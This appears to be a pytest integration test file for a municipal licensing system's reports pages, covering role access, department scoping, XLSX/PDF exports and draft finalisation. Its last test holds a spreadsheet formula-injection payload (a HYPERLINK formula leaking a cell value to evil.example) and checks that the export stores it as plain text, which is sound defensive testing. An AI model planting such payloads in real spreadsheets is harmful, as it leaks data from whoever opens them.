"""The reports pages: who may see what, department scoping, the exports, drafts and finals."""

from __future__ import annotations

import io
import re
from datetime import UTC, date, datetime, time

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from licensing import clock
from licensing.audit.models import AuditEntry
from licensing.auth.models import Role
from licensing.clock import LOCAL_TZ
from licensing.extensions import db
from licensing.jobs.registry import get_job
from licensing.jobs.runner import run_job
from licensing.reports.figures import BY_KEY, DEPARTMENTAL, FIGURES
from licensing.reports.models import MonthlyReport, ReportStatus
from licensing.reports.periods import Period
from licensing.reports.services import build_monthly_report, finalise_report, save_draft
from licensing.supervision import services as supervision
from licensing.supervision.models import Outcome
from tests.factories import create_test_user, login_as
from tests.integration.test_supervision_support import licensed, replayed_on_world

OCTOBER = Period(2026, 10)


def at(day: date, hour: int = 10) -> None:
    clock.set_frozen(datetime.combine(day, time(hour), tzinfo=LOCAL_TZ).astimezone(UTC))


@pytest.fixture
def month(session):
    """October 2026: three licences supervised by 市卫生健康局, one by 市市场监督管理局.

    Due in October: two of 市卫生健康局 (one checked on time, one never checked) and one of
    市市场监督管理局 (checked on time, nonconform). Built once per database, then replayed;
    the clock at 2026-11-21 10:00.
    """
    return replayed_on_world(session, "report pages: October", _october)


def _october(world):
    at(date(2026, 8, 3))
    tasks = []
    # due 10-30 (checked 10-20), 10-23 (never checked), 11-03; and 10-30 (checked 10-20)
    for decided_on, supervisory in ((date(2026, 8, 3), "wsjkj"), (date(2026, 7, 27), "wsjkj"),
                                    (date(2026, 8, 5), "wsjkj"), (date(2026, 8, 3), "scjgj")):
        at(decided_on)
        tasks.append(licensed(world, decided_on=decided_on, supervisory=supervisory)[2])
    at(date(2026, 10, 20))
    supervision.record_result(tasks[0], Outcome.conform, "", date(2026, 10, 20),
                              actor=world.inspector)
    supervision.record_result(tasks[3], Outcome.nonconform, "未按承诺配备设施",
                              date(2026, 10, 20), actor=world.other_inspector)
    supervision.assign_task(tasks[1], world.inspector, actor=world.head)
    db.session.commit()
    at(date(2026, 11, 21))
    return world


def _get(client, user, path):
    login_as(client, user)
    return client.get(path)


ENDPOINTS = ["/reports/city", "/reports/sla", "/reports/queue", "/reports/monthly/",
             "/reports/monthly/2026-10", "/reports/monthly/2026-10.xlsx",
             "/reports/monthly/2026-10.pdf"]
ALLOWED = {
    "reform_office": {"/reports/city", "/reports/monthly/", "/reports/monthly/2026-10",
                      "/reports/monthly/2026-10.xlsx", "/reports/monthly/2026-10.pdf"},
    "admin": {"/reports/city", "/reports/monthly/", "/reports/monthly/2026-10",
              "/reports/monthly/2026-10.xlsx", "/reports/monthly/2026-10.pdf"},
    "head": {"/reports/sla", "/reports/monthly/", "/reports/monthly/2026-10",
             "/reports/monthly/2026-10.xlsx", "/reports/monthly/2026-10.pdf"},
    "approver": {"/reports/queue"},
    "inspector": set(),
    "clerk": set(),
    "applicant": set(),
}


@pytest.mark.parametrize("role", sorted(ALLOWED))
def test_who_may_open_which_page(month, app, role):
    user = create_test_user(role)
    client = app.test_client()
    login_as(client, user)
    for path in ENDPOINTS:
        status = client.get(path).status_code
        assert status == (200 if path in ALLOWED[role] else 403), (role, path, status)
    index = client.get("/reports/")
    if role in ("reform_office", "admin", "head", "approver"):
        assert index.status_code == 302
    else:
        assert index.status_code == 403


def test_anonymous_is_sent_to_the_login(client):
    for path in ENDPOINTS:
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_a_bad_month_is_not_found(month, client):
    login_as(client, create_test_user(Role.reform_office))
    assert client.get("/reports/monthly/2026-13").status_code == 404
    assert client.get("/reports/monthly/october").status_code == 404


def test_a_head_sees_only_their_department(month, app):
    head, other_head = month.head, month.other_head  # 市卫生健康局, 市市场监督管理局
    client = app.test_client()
    page = _get(client, head, "/reports/monthly/2026-10").get_data(as_text=True)
    assert "市卫生健康局" in page and "市市场监督管理局" not in page
    assert 'data-figure="credit_pushes_pending"' not in page  # no city-only figure
    assert 'data-figure="tasks_due"' in page
    workbook = load_workbook(io.BytesIO(client.get("/reports/monthly/2026-10.xlsx").data))
    names = [row[0].value for row in workbook["各部门"].iter_rows(min_row=4)]
    assert names == ["市卫生健康局", "合计"]
    assert workbook["汇总"]["A1"].value.endswith("（市卫生健康局）")
    sla = client.get("/reports/sla").get_data(as_text=True)
    assert month.inspector.display_name in sla and month.other_inspector.display_name not in sla
    other = app.test_client()
    page = _get(other, other_head, "/reports/monthly/2026-10").get_data(as_text=True)
    assert "市市场监督管理局" in page and "市卫生健康局" not in page
    mine = build_monthly_report(OCTOBER, head)
    theirs = build_monthly_report(OCTOBER, other_head)
    city = build_monthly_report(OCTOBER)
    for key in DEPARTMENTAL:
        assert mine.totals[key] + theirs.totals[key] <= city.totals[key]
    assert mine.totals["tasks_due"] == 2 and mine.totals["tasks_on_time"] == 1
    assert mine.totals["tasks_overdue"] == 1 and theirs.totals["breaches"] == 1


def test_xlsx_opens_with_every_sheet_and_the_right_figures(month, client):
    reform = create_test_user(Role.reform_office)
    response = _get(client, reform, "/reports/monthly/2026-10.xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in response.headers["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["全市", "各部门", "各事项", "指标说明"]
    report = build_monthly_report(OCTOBER)

    city = workbook["全市"]
    assert city["A1"].value == "2026年10月告知承诺制工作进展月报（全市）"
    meta = {row[0].value: row[1].value for row in city.iter_rows(min_row=3, max_row=8)}
    assert meta["统计范围"] == "全市" and meta["数据摘要（SHA-256）"] == report.sha256
    values = {row[1].value: row[2].value for row in city.iter_rows(min_row=9)
              if row[1].value}
    for figure in FIGURES:
        assert values[figure.label] == report.totals[figure.key], figure.key
    # 3 due in October, 2 checked on time: a number shown as a percentage, not text
    assert values["按期核查率"] == pytest.approx(2 / 3, abs=1e-4)
    rate_cell = next(row[2] for row in city.iter_rows(min_row=9) if row[1].value == "按期核查率")
    assert rate_cell.number_format == "0.0%"
    departments_rates = [row[-1] for row in workbook["各部门"].iter_rows(min_row=4)]
    assert all(c.value is None or isinstance(c.value, int | float) for c in departments_rates)
    assert {c.number_format for c in departments_rates} == {"0.0%"}

    departments = workbook["各部门"]
    header = [c.value for c in departments[3]]
    assert header[:2] == ["部门", "部门类别"]
    assert header[2:-1] == [f"{BY_KEY[k].label}（{BY_KEY[k].unit}）" for k in DEPARTMENTAL]
    rows = {r[0].value: [c.value for c in r] for r in departments.iter_rows(min_row=4)}
    tasks_due = 2 + DEPARTMENTAL.index("tasks_due")
    assert rows["市卫生健康局"][tasks_due] == 2 and rows["市市场监督管理局"][tasks_due] == 1
    assert rows["合计"][tasks_due] == report.totals["tasks_due"] == 3
    assert rows["市行政审批局"][1] == "行政审批实施部门"

    items = workbook["各事项"]
    item_rows = [[c.value for c in r] for r in items.iter_rows(min_row=4)]
    assert item_rows[-1][0] == "合计"
    assert sum(r[tasks_due] for r in item_rows[:-1]) == 3

    definitions = workbook["指标说明"]
    labels = [row[0].value for row in definitions.iter_rows(min_row=2)]
    assert all(f.label in labels for f in FIGURES)
    text = " ".join(str(row[3].value) for row in definitions.iter_rows(min_row=2))
    assert "Asia/Shanghai" in text and "次月1日0时（不含）" in text


def test_pdf_is_a_valid_document(month, client):
    response = _get(client, create_test_user(Role.reform_office), "/reports/monthly/2026-10.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    data = response.data
    assert data.startswith(b"%PDF-1.") and data.rstrip().endswith(b"%%EOF")
    assert b"startxref" in data
    assert len(re.findall(rb"/Type /Page\b", data)) >= 2


def test_draft_then_finalise_through_the_pages(month, app):
    reform = create_test_user(Role.reform_office)
    client = app.test_client()
    login_as(client, reform)
    page = client.get("/reports/monthly/2026-10").get_data(as_text=True)
    assert "尚未生成草稿" in page and "按以上数据定稿" in page
    assert client.post("/reports/monthly/2026-10/draft").status_code == 302
    stored = db.session.scalar(select(MonthlyReport))
    assert stored.period == "2026-10" and stored.status == ReportStatus.draft
    sha = re.search(r'name="sha256" value="([0-9a-f]{64})"',
                    client.get("/reports/monthly/2026-10").get_data(as_text=True)).group(1)
    assert sha == stored.sha256
    assert client.post("/reports/monthly/2026-10/finalise",
                       data={"sha256": sha}).status_code == 302
    db.session.expire_all()
    stored = db.session.scalar(select(MonthlyReport))
    assert stored.status == ReportStatus.final and stored.finalised_by_id == reform.id
    page = client.get("/reports/monthly/2026-10").get_data(as_text=True)
    assert "已定稿" in page and "按当前数据重新计算的结果与定稿相同" in page
    assert "按以上数据定稿" not in page
    # a second finalisation is refused, and so is a refresh of the draft
    client.post("/reports/monthly/2026-10/finalise", data={"sha256": sha})
    client.post("/reports/monthly/2026-10/draft")
    page = client.get("/reports/monthly/2026-10").get_data(as_text=True)
    assert "该月月报已定稿" in page
    actions = db.session.scalars(select(AuditEntry.action).where(
        AuditEntry.object_type == "monthly_report").order_by(AuditEntry.id)).all()
    assert actions == ["report.draft_saved", "report.finalised"]


def test_finalising_refuses_figures_that_changed_since_they_were_read(month, app):
    reform = create_test_user(Role.reform_office)
    client = app.test_client()
    login_as(client, reform)
    client.post("/reports/monthly/2026-10/finalise", data={"sha256": "0" * 64})
    assert db.session.scalar(select(MonthlyReport)) is None
    assert "发生了变化" in client.get("/reports/monthly/2026-10").get_data(as_text=True)


def test_only_the_reform_office_finalises_and_months_must_be_over(month, app):
    admin = create_test_user(Role.admin)
    client = app.test_client()
    login_as(client, admin)
    assert client.post("/reports/monthly/2026-10/finalise").status_code == 403
    assert client.post("/reports/monthly/2026-10/draft").status_code == 302  # admin may draft
    head = app.test_client()
    login_as(head, month.head)
    assert head.post("/reports/monthly/2026-10/draft").status_code == 403
    from licensing.reports.errors import PeriodNotEnded

    with pytest.raises(PeriodNotEnded):
        save_draft(Period(2026, 11))


def test_a_final_report_never_changes(month):
    reform = create_test_user(Role.reform_office)
    stored = finalise_report(OCTOBER, actor=reform)
    db.session.commit()
    stored.figures = {**stored.figures, "city_only": {}}
    with pytest.raises(ValueError, match="never changes"):
        db.session.flush()
    db.session.rollback()
    db.session.delete(db.session.scalar(select(MonthlyReport)))
    with pytest.raises(ValueError, match="never changes"):
        db.session.flush()
    db.session.rollback()


def test_the_scheduler_drafts_last_month_on_the_20th(month):
    def run(day: date):
        now = datetime.combine(day, time(9, 30), tzinfo=LOCAL_TZ)
        with clock.freeze(now):
            return run_job(get_job("monthly_report_draft"), now=now, runner_id="test")

    assert run(date(2026, 11, 19)).items_handled == 0
    assert db.session.scalar(select(MonthlyReport)) is None
    assert run(date(2026, 11, 20)).items_handled == 1
    stored = db.session.scalar(select(MonthlyReport))
    assert stored.period == "2026-10" and stored.status == ReportStatus.draft
    assert stored.drafted_by_id is None  # the scheduler
    assert stored.figures["cells"] and stored.sha256 == build_monthly_report(OCTOBER).sha256


def test_dashboards_draw_charts_and_link_to_the_work(month, app):
    reform = create_test_user(Role.reform_office)
    client = app.test_client()
    page = _get(client, reform, "/reports/city?period=2026-10").get_data(as_text=True)
    assert page.count('role="img"') >= 4  # the approvals chart is empty in October
    for title in ("告知承诺制与一般程序申请（件）", "按期核查率（%）", "各监管部门到期核查任务"):
        assert title in page
    assert "style=" not in page and "<script>" not in page
    home = client.get("/").get_data(as_text=True)
    assert "改革工作进展" in home and "/reports/city" in home

    approver = app.test_client()
    page = _get(approver, month.approver, "/reports/queue").get_data(as_text=True)
    assert "未读核查结果" in page and "/approvals/results" in page
    home = approver.get("/").get_data(as_text=True)
    assert "审批待办总览" in home

    head = app.test_client()
    page = _get(head, month.head, "/reports/sla").get_data(as_text=True)
    assert "按核查人员" in page
    assert f"/supervision/tasks?inspector={month.inspector.id}" in page  # the inbox, filtered
    assert "本部门时效与月报" in head.get("/").get_data(as_text=True)
    nav = head.get("/").get_data(as_text=True)
    assert ">报表<" in nav and ">月报<" in nav


EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"点此查看")'


def test_xlsx_writes_an_item_name_that_looks_like_a_formula_as_text(month, client):
    from licensing.catalogue.models import ItemVersion

    # as if an administrator had published an item of that name (published rows are guarded
    # against ORM updates; the table is updated directly here)
    db.session.execute(ItemVersion.__table__.update().values(name=EVIL))
    db.session.commit()
    reform = create_test_user(Role.reform_office)
    response = _get(client, reform, "/reports/monthly/2026-10.xlsx")
    workbook = load_workbook(io.BytesIO(response.data))
    cells = [c for row in workbook["各事项"].iter_rows() for c in row if c.value == EVIL]
    assert cells, "the item's name is in the sheet"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    formulas = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
